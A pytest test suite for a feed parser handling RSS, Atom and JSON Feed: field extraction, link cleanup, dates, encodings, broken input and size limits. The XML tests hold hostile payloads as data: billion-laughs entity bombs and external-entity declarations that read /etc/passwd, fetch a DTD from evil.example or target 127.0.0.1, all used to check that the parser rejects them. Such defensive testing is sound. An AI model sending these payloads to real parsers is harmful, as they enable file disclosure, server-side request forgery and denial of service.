from __future__ import annotations

import signal
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from datetime import UTC, datetime, timedelta

import pytest

from streams.data_harvesting.parsing.feeds import Feed, FeedRejected, parse_feed

NOW = datetime(2026, 3, 1, tzinfo=UTC)
URL = "https://a.com/feed.xml"


def rss(*items: str, head: str = "<title>News</title>", prolog: str = "") -> bytes:
    body = "".join(f"<item>{item}</item>" for item in items)
    return f'<?xml version="1.0"?>{prolog}<rss version="2.0"><channel>{head}{body}</channel></rss>'.encode()


def parse(body: bytes, **how: str) -> Feed:
    return parse_feed(body, url=URL, now=NOW, **how)


def reason(body: bytes, **how: str) -> str:
    with pytest.raises(FeedRejected) as caught:
        parse(body, **how)
    return caught.value.reason


@contextmanager
def within(seconds: int) -> Iterator[None]:
    """Fail, rather than hang."""

    def late(*_: object) -> None:
        raise AssertionError(f"took longer than {seconds} s")

    before = signal.signal(signal.SIGALRM, late)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, before)


def test_an_entry_has_all_that_is_taken_of_it() -> None:
    feed = parse(
        b"""<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en"><title>News &amp; more</title>
        <link rel="license" href="https://creativecommons.org/licenses/by/4.0/"/><rights>Us</rights>
        <entry><id>tag:a.com,1</id><title type="html">One &lt;b&gt;bold&lt;/b&gt; thing</title>
        <link href="/one?utm_source=feed&amp;b=1&amp;a=2"/>
        <link rel="enclosure" href="/one.mp3" type="Audio/MPEG" length="123"/>
        <published>2026-02-01T12:00:00+02:00</published><author><name>Ann</name></author>
        <summary type="html">&lt;p&gt;It is&lt;script&gt;bad()&lt;/script&gt; so.&lt;/p&gt;</summary></entry></feed>"""
    )
    assert (feed.kind, feed.title, feed.rights) == ("atom10", "News & more", "Us")
    (entry,) = feed.entries
    assert (entry.id, entry.id_from, entry.title, entry.summary) == (
        "tag:a.com,1",
        "given",
        "One bold thing",
        "It is so.",
    )
    assert entry.link == "https://a.com/one?a=2&b=1"
    assert entry.original_link == "https://a.com/one?utm_source=feed&b=1&a=2"
    assert entry.published == datetime(2026, 2, 1, 10, tzinfo=UTC)
    assert (entry.author, entry.license) == ("Ann", "https://creativecommons.org/licenses/by/4.0/")
    (enclosure,) = entry.enclosures
    assert (enclosure.url, enclosure.media_type, enclosure.length_bytes) == ("https://a.com/one.mp3", "audio/mpeg", 123)


def test_an_id_that_is_not_given_is_made_of_the_link_or_else_of_the_content() -> None:
    feed = parse(
        rss("<link>https://a.com/1?utm_medium=x</link>", "<title>Only a title</title>", "<pubDate>x</pubDate>")
    )
    assert [(entry.id_from, entry.id[:19]) for entry in feed.entries] == [
        ("link", "https://a.com/1"),
        ("content", feed.entries[1].id[:19]),
    ]
    assert feed.entries[1].id.startswith("sha256:")
    assert [(each.position, each.reason) for each in feed.rejected] == [(2, "empty")]


def test_entries_that_are_there_twice_are_taken_once_and_one_id_for_all_does_not_make_them_one() -> None:
    one = "<guid isPermaLink='false'>x</guid><title>A</title><link>https://a.com/1</link>"
    other = "<guid isPermaLink='false'>x</guid><title>B</title><link>https://a.com/2</link>"
    feed = parse(rss(one, one, other))
    assert [(entry.id, entry.id_from) for entry in feed.entries] == [("x", "given"), ("https://a.com/2", "link")]
    assert [each.reason for each in feed.rejected] == ["duplicate"]


@pytest.mark.parametrize(
    ("date", "problem"),
    [
        ("<pubDate>Sun, 01 Feb 2026 10:00:00 GMT</pubDate>", ""),
        ("<pubDate>2026-02-01T10:00:00Z</pubDate>", ""),
        ("", "missing"),
        ("<pubDate></pubDate>", "missing"),
        ("<pubDate>Sex, 22 Set 2017 11:00:00</pubDate>", "unreadable"),
        ("<pubDate>gestern</pubDate>", "unreadable"),
        ("<pubDate>Sun, 01 Feb 2099 10:00:00 GMT</pubDate>", "far_future"),
        ("<pubDate>Thu, 01 Jan 1970 00:00:00 GMT</pubDate>", "far_past"),
        ("<pubDate>Mon, 01 Jan 0001 00:00:00 GMT</pubDate>", "far_past"),
        ("<pubDate>99999-99-99T99:99:99Z</pubDate>", "far_future"),
    ],
)
def test_a_date_is_right_or_rejected_with_a_reason(date: str, problem: str) -> None:
    (entry,) = parse(rss(f"<title>x</title>{date}")).entries
    assert entry.published_problem == problem
    assert (entry.published is not None) == (problem == "")
    if entry.published is not None:
        assert entry.published == datetime(2026, 2, 1, 10, tzinfo=UTC)


@pytest.mark.parametrize(
    ("body", "charset"),
    [
        (rss("<title>Zürich – “ok”</title>"), ""),
        (rss("<title>Zürich – “ok”</title>").decode().replace("?>", " encoding='cp1252'?>").encode("cp1252"), ""),
        (rss("<title>Zürich – “ok”</title>").decode().encode("cp1252"), "iso-8859-1"),
        (rss("<title>Zürich – “ok”</title>").decode().encode("cp1252"), ""),
        (rss("<title>Zürich – “ok”</title>").decode().encode("utf-16"), ""),
        (b"\xef\xbb\xbf" + rss("<title>Zürich – “ok”</title>"), "iso-8859-1"),
        (rss("<title>Zürich – “ok”</title>"), "no-such-encoding"),
        (rss("<title>Zürich – “ok”</title>"), "punycode"),
        (rss("<title>Zürich – “ok”</title>"), "zip"),
    ],
)  # fmt: skip
def test_a_text_is_read_whatever_it_says_its_encoding_is(body: bytes, charset: str) -> None:
    assert parse(body, charset=charset).entries[0].title == "Zürich – “ok”"


def test_a_broken_feed_gives_what_can_be_read_of_it() -> None:
    feed = parse(rss("<title>A & B < C</title><link>https://a.com/1</link>", "<title>Two</title>")[:-20])
    assert [entry.title for entry in feed.entries] == ["A & B < C", "Two"]
    assert feed.entries[0].link == "https://a.com/1"


@pytest.mark.parametrize(
    ("body", "why"),
    [
        (b"", "empty"),
        (b" \n\t", "empty"),
        (b"\xef\xbb\xbf", "empty"),
        (b"<!doctype html><html><body><p>No feed</p></body></html>", "not_a_feed"),
        (b"just words", "not_a_feed"),
        (b'{"a": 1}', "not_a_feed"),
        (b"{broken", "malformed"),
        (b"[" * 100_000, "malformed"),
        (bytes(range(256)) * 20, "not_a_feed"),
        (b"<rss>" + b"x" * (9 * 1024 * 1024), "too_large"),
    ],
    ids=range(10),
)
def test_what_is_no_feed_is_rejected_with_a_reason(body: bytes, why: str) -> None:
    with within(10):
        assert reason(body) == why


LAUGHS = '<!DOCTYPE r [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
) + "]>"  # fmt: skip


@pytest.mark.parametrize(
    ("prolog", "why"),
    [
        (LAUGHS, "entity_bomb"),
        (LAUGHS.replace("<!ENTITY", "\n<!ENTITY"), "entity_bomb"),
        (LAUGHS.replace("<!ENTITY a", "<!-- x --><!ENTITY\ta"), "entity_bomb"),
        ('<!DOCTYPE r [<!ENTITY a "' + "x" * 5000 + '">]>', "entity_bomb"),
        ("<!DOCTYPE r [" + "".join(f'<!ENTITY e{n} "x">' for n in range(200)) + "]>", "entity_bomb"),
        ('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "external_entity"),
        ('<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>', "external_entity"),
        ('<!DOCTYPE r [<!ENTITY x PUBLIC "-//x" "http://127.0.0.1/">]>', "external_entity"),
        ("<!DOCTYPE r [<!ENTITY % x '&#37;y;'>]>", "entity_bomb"),
    ],
    ids=range(9),
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_xml_that_is_a_weapon_is_refused(prolog: str, why: str, encoding: str) -> None:
    body = rss("<title>&i;&x;&a;</title>", prolog=prolog).decode().encode(encoding)
    with within(5):
        assert reason(body) == why


def test_short_entities_of_text_and_a_dtd_elsewhere_are_harmless() -> None:
    assert parse(rss("<title>&co;</title>", prolog='<!DOCTYPE r [<!ENTITY co "Us">]>')).entries[0].title == "Us"
    netscape = (
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/rss-0.91.dtd">'
    )
    assert parse(rss("<title>x</title>", prolog=netscape)).entries[0].title == "x"
    about = rss("<title>On XML</title><description>&lt;!ENTITY a SYSTEM 'x'&gt;</description>")
    assert parse(about).entries[0].title == "On XML"


@pytest.mark.parametrize(
    "body",
    [
        b"<rss><channel><item>" + b"<a>" * 60_000,
        b"<rss><channel><item><title>" + b"<" * 60_000,
        b"<rss><channel><item><title>" + b"&amp" * 60_000,
        b"<rss><channel><item><title>" + b"<!--" * 60_000,
        b"<rss><channel><item><title>" + b"<![CDATA[" * 60_000,
        b"<rss><channel><item><title" + b" " * 300_000,
        b"<rss><channel><item><title " + b" ".join(b"a%d='1'" % number for number in range(50_000)) + b">",
        b"<!DOCTYPE " * 20_000 + b"<rss><channel>",
        b"<rss><channel>" + b"<item/>" * 20_000 + b"</channel></rss>",
        b"<rss><channel><item><description>"
        + b"&lt;b id=1&gt;&lt;p&gt;" * 12_000
        + b"</description></item></channel></rss>",
    ],
    ids=range(10),
)
def test_no_shape_of_a_document_takes_long(body: bytes) -> None:
    with within(20), suppress(FeedRejected):
        assert len(parse(body).entries) <= 5000


def test_there_is_an_end_to_the_entries_of_a_feed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("streams.data_harvesting.parsing.feed_draft.MAX_ENTRIES", 50)
    feed = parse(rss(*(f"<title>{number}</title>" for number in range(60))))
    assert len(feed.entries) == 50
    assert feed.rejected[-1].reason == "too_many"


def test_texts_are_bounded() -> None:
    (entry,) = parse(
        rss(f"<title>{'x' * 100_000}</title><description>{'y' * 100_000}</description><guid>{'z' * 9000}</guid>")
    ).entries
    assert len(entry.title) == 500
    assert len(entry.summary) == 20_000
    assert entry.id.startswith("sha256:")


def test_a_json_feed_is_read_and_members_of_wrong_types_are_not() -> None:
    feed = parse(
        b"""{"version": "https://jsonfeed.org/version/1.1", "title": "News", "home_page_url": "/", "language": "de",
        "authors": [{"name": "Ann"}], "items": [
        {"id": 7, "url": "/7", "content_html": "<p>Seven<script>x</script></p>",
         "date_published": "2026-02-01T10:00:00Z",
         "attachments": [{"url": "/7.mp3", "mime_type": "audio/mpeg", "size_in_bytes": 5}, "nonsense"]},
        {"id": "8", "title": ["not text"], "summary": "Eight", "date_published": "soon", "authors": [{"name": "Bob"}]},
        "nonsense", {"id": "9"}, {"id": 7, "url": "/7"}]}"""
    )
    assert (feed.kind, feed.title, feed.link) == ("json11", "News", "https://a.com/")
    seven, eight = feed.entries
    assert (seven.id, seven.link, seven.summary, seven.author) == ("7", "https://a.com/7", "Seven", "Ann")
    assert seven.published == datetime(2026, 2, 1, 10, tzinfo=UTC)
    assert [enclosure.length_bytes for enclosure in seven.enclosures] == [5]
    assert (eight.title, eight.published_problem, eight.author, eight.language) == ("", "unreadable", "Bob", "de")
    assert [(each.position, each.reason) for each in feed.rejected] == [
        (2, "malformed"),
        (3, "empty"),
        (4, "duplicate"),
    ]


def test_clocks_that_are_a_zone_off_are_borne_with() -> None:
    soon = (NOW + timedelta(hours=20)).isoformat()
    assert parse(rss(f"<title>x</title><pubDate>{soon}</pubDate>")).entries[0].published is not None
